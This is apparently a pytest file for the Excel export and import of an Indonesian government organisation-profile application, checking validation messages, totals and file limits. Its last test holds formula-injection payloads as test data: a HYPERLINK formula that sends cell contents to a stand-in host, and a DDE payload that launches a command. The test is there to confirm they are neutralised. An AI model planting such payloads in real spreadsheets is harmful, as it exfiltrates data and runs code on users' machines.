import io
import re
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from sakip.profil import data as profil_data
from sakip.profil import excel, services
from sakip.profil.models import ProfilOrganisasi
from sakip.profil.tests.conftest import data_kecil


def _tulis(data, kode="SETDA.A", tahun=2024):
    return excel.tulis(data, kode_unit=kode, nama_unit="Biro A", tahun=tahun)


def _ubah(isi: bytes, ubah) -> bytes:
    wb = load_workbook(io.BytesIO(isi))
    ubah(wb)
    keluaran = io.BytesIO()
    wb.save(keluaran)
    return keluaran.getvalue()


def _baca(isi: bytes, kode="SETDA.A", tahun=2024):
    return excel.baca(io.BytesIO(isi), kode_unit=kode, tahun=tahun)


def _pesan(hasil):
    return [str(k) for k in hasil.kesalahan]


def test_export_then_import_of_seed_004_gives_back_the_same_data(data_seed):
    hasil = _baca(_tulis(data_seed, kode="SETDA"), kode="SETDA")
    assert _pesan(hasil) == []
    harapan = {k: data_seed[k] for k in profil_data.kosong()}
    assert hasil.data == harapan


def test_export_of_a_stored_profile_reimports_to_the_same_state(org, profil_a):
    sebelum = profil_data.dari_profil(profil_a)
    hasil = _baca(_tulis(sebelum))
    assert hasil.ok, _pesan(hasil)
    services.simpan_profil(unit_kerja=org.biro_a, tahun=2024, data=hasil.data, by=None)
    profil_a.refresh_from_db()
    assert profil_data.dari_profil(profil_a) == sebelum


def test_blank_template_reads_as_an_empty_profile_that_still_needs_the_reason():
    hasil = _baca(_tulis(profil_data.kosong()))
    assert _pesan(hasil) == [
        "Sheet 'Profil', baris 14, kolom 'Nilai': Tidak ada standar pembanding: isi 'Alasan Tanpa Standar'."
    ]
    assert hasil.data["pegawai_asn"] == []


def test_a_typed_row_total_that_disagrees_with_the_cells_reports_the_row(org, profil_a):
    def salah(wb):
        ws = wb["Pegawai ASN"]
        ws["S3"] = 5  # the "Jumlah" column of data row 2; PNS + P3K is 4

    hasil = _baca(_ubah(_tulis(data_kecil()), salah))
    assert _pesan(hasil) == [
        "Sheet 'Pegawai ASN', baris 3, kolom 'Jumlah': "
        "Tertulis 5, padahal hasil perhitungan dari sel baris ini 4."
    ]


def test_a_typed_total_row_that_disagrees_reports_its_row_and_column():
    def salah(wb):
        ws = wb["Pegawai ASN"]
        assert ws["B4"].value == "Jumlah"
        ws["C4"] = 7  # PNS total of two rows of 3
        ws["E4"] = 4  # L total: right

    hasil = _baca(_ubah(_tulis(data_kecil()), salah))
    assert _pesan(hasil) == [
        "Sheet 'Pegawai ASN', baris 4, kolom 'PNS': "
        "Baris jumlah tertulis 7, padahal jumlah dari baris-baris di atasnya 6."
    ]


def test_an_import_with_a_wrong_total_changes_nothing(org, profil_a):
    sebelum = profil_data.dari_profil(profil_a)
    data = data_kecil()
    data["pegawai_asn"][0]["jabatan"] = "Jabatan baru"
    isi = _ubah(_tulis(data), lambda wb: wb["Pegawai Non PNS"].cell(row=2, column=5, value=4))
    hasil = _baca(isi)
    assert _pesan(hasil) == [
        "Sheet 'Pegawai Non PNS', baris 2, kolom 'Jumlah': "
        "Tertulis 4, padahal hasil perhitungan dari sel baris ini 3."
    ]
    assert not hasil.ok
    assert profil_data.dari_profil(ProfilOrganisasi.objects.get(pk=profil_a.pk)) == sebelum


def test_every_bad_cell_is_listed_in_indonesian_by_sheet_row_and_column():
    def rusak(wb):
        asn = wb["Pegawai ASN"]
        asn["C2"] = "tiga"  # PNS
        asn["E3"] = -1  # L
        asn["F3"] = 3  # P: with L wrong the row cannot be checked further
        asn["L2"] = 1.5  # S3
        wb["Sarana Prasarana"]["C2"] = "banyak"
        wb["Sarana Prasarana"]["D3"] = None  # satuan
        wb["Landasan Hukum"]["B2"] = None
        wb["Landasan Hukum"]["A2"] = 1  # row kept, uraian empty
        wb["Profil"]["B9"] = "32-13-2024"  # tanggal

    pesan = _pesan(_baca(_ubah(_tulis(data_kecil()), rusak)))
    assert pesan == [
        "Sheet 'Profil', baris 9, kolom 'Nilai': "
        "Data Pegawai per Tanggal: tanggal tidak valid: '32-13-2024' (contoh: 31-12-2024).",
        "Sheet 'Landasan Hukum', baris 2, kolom 'Uraian': Wajib diisi.",
        "Sheet 'Pegawai ASN', baris 2, kolom 'PNS': Harus berupa angka, bukan 'tiga'.",
        "Sheet 'Pegawai ASN', baris 2, kolom 'S3': Harus berupa bilangan bulat, bukan 1,50.",
        "Sheet 'Pegawai ASN', baris 3, kolom 'L': Tidak boleh negatif (-1).",
        "Sheet 'Sarana Prasarana', baris 2, kolom 'Banyaknya': Harus berupa angka, bukan 'banyak'.",
        "Sheet 'Sarana Prasarana', baris 3, kolom 'Satuan': Wajib diisi.",
    ]


def test_breakdowns_that_disagree_are_reported_per_row():
    def rusak(wb):
        wb["Pegawai ASN"]["E2"] = 3  # L: 3 + 2 = 5, PNS + P3K = 4

    assert _pesan(_baca(_ubah(_tulis(data_kecil()), rusak))) == [
        "Sheet 'Pegawai ASN', baris 2, kolom 'L, P': L + P = 5 tidak sama dengan PNS + P3K = 4."
    ]


def test_dash_and_blank_count_cells_read_as_zero_as_in_printed_tables():
    def tanda(wb):
        wb["Pegawai ASN"]["I2"] = "-"  # Gol. II
        wb["Pegawai ASN"]["J2"] = None  # Gol. I

    hasil = _baca(_ubah(_tulis(data_kecil()), tanda))
    assert hasil.ok, _pesan(hasil)
    assert hasil.data["pegawai_asn"][0]["gol_ii"] == 0


def test_a_workbook_for_another_unit_or_year_is_refused():
    pesan = _pesan(_baca(_tulis(data_kecil(), kode="SETDA.B", tahun=2023)))
    assert pesan == [
        "Sheet 'Profil', baris 2, kolom 'Nilai': Berkas ini untuk unit 'SETDA.B', bukan 'SETDA.A'.",
        "Sheet 'Profil', baris 4, kolom 'Nilai': Berkas ini untuk tahun 2023, bukan 2024.",
    ]


def test_missing_sheets_and_columns_are_reported():
    def hapus(wb):
        del wb["Fungsi"]
        wb["Pegawai Non PNS"]["C1"] = "Laki"

    pesan = _pesan(_baca(_ubah(_tulis(data_kecil()), hapus)))
    assert "Sheet 'Fungsi': Sheet tidak ditemukan." in pesan
    assert "Sheet 'Pegawai Non PNS', baris 1, kolom 'Laki': Kolom tidak dikenal." in pesan
    assert (
        "Sheet 'Pegawai Non PNS', baris 1, kolom 'L': Kolom tidak ditemukan pada baris judul (baris 1)."
        in pesan
    )


def test_a_file_that_is_not_xlsx_is_refused_whatever_its_name():
    with pytest.raises(excel.BerkasDitolak, match=r"bukan berkas Excel \.xlsx"):
        excel.baca(io.BytesIO(b"No;Jabatan\n1;Sekda\n"), kode_unit="X", tahun=2024)
    arsip = io.BytesIO()
    with zipfile.ZipFile(arsip, "w") as z:
        z.writestr("word/document.xml", "<w/>")
    with pytest.raises(excel.BerkasDitolak, match=r"bukan berkas Excel \.xlsx"):
        excel.baca(io.BytesIO(arsip.getvalue()), kode_unit="X", tahun=2024)


def test_a_file_over_5_mb_is_refused():
    besar = io.BytesIO(b"PK" + b"\0" * (5 * 1024 * 1024))
    with pytest.raises(excel.BerkasDitolak, match="melebihi batas 5 MB"):
        excel.baca(besar, kode_unit="X", tahun=2024)


def test_a_workbook_without_our_sheets_lists_each_missing_sheet():
    keluaran = io.BytesIO()
    Workbook().save(keluaran)
    pesan = _pesan(_baca(keluaran.getvalue()))
    assert len([p for p in pesan if p.endswith("Sheet tidak ditemukan.")]) == 1 + len(excel.TABEL)


_RUMUS_APP = re.compile(r"=[A-Z]+\d+(\+[A-Z]+\d+)?|=SUM\([A-Z]+\d+:[A-Z]+\d+\)")
RUMUS_PENGGUNA = '=HYPERLINK("http://contoh.invalid/?"&A1,"Klik")'


def test_the_export_stores_user_text_as_text_never_as_a_formula_and_reads_it_back_unchanged():
    data = data_kecil()
    for kunci in ("dasar_pembentukan", "tugas", "aspek_strategis", "alasan_tanpa_standar"):
        data["uraian"][kunci] = RUMUS_PENGGUNA
    data["landasan_hukum"] = [RUMUS_PENGGUNA, "+cmd|' /C calc'!A0", "-1", "@SUM(A1)"]
    data["pegawai_asn"][0]["jabatan"] = RUMUS_PENGGUNA
    data["pegawai_non_pns"][0]["jabatan"] = RUMUS_PENGGUNA
    isi = _tulis(data)

    wb = load_workbook(io.BytesIO(isi))
    sel = [c for ws in wb.worksheets for baris in ws.iter_rows() for c in baris if c.value is not None]
    rumus = [c for c in sel if c.data_type == "f"]
    # The only formulas are the workbook's own: row totals (=B2+C2) and column sums (=SUM(C2:C3)).
    assert rumus
    assert all(_RUMUS_APP.fullmatch(c.value) for c in rumus), [c.value for c in rumus]
    teks_pengguna = [c for c in sel if c.value in (RUMUS_PENGGUNA, "+cmd|' /C calc'!A0", "-1", "@SUM(A1)")]
    assert len(teks_pengguna) == 4 + 4 + 2
    assert all(c.data_type == "s" and c.quotePrefix for c in teks_pengguna)

    hasil = _baca(isi)
    assert hasil.kesalahan == []
    assert hasil.data["uraian"]["tugas"] == RUMUS_PENGGUNA
    assert hasil.data["landasan_hukum"][:2] == [RUMUS_PENGGUNA, "+cmd|' /C calc'!A0"]
    assert hasil.data["pegawai_asn"][0]["jabatan"] == RUMUS_PENGGUNA
